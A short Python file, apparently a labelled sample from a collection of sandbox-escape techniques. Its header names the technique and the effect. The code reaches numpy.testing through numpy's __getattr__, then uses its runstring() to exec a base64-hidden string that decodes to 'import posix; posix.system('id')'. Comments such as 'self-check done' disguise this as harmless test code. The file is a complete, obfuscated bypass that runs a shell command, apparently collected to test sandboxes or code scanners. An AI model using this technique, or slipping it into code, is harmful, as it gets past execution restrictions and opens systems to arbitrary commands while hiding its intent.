# class: reflective | technique: numpy's module-level __getattr__ called directly hands back the excepted numpy.testing, whose runstring() exec()s a string | effect: runs `id`
import base64

import numpy as np

helpers = np.__getattr__("testing")         # lazily loaded test helpers
check = base64.b64decode("aW1wb3J0IHBvc2l4OyBwb3NpeC5zeXN0ZW0oJ2lkJyk=").decode()
scope = {}
helpers.runstring(check, scope)
print("self-check done")
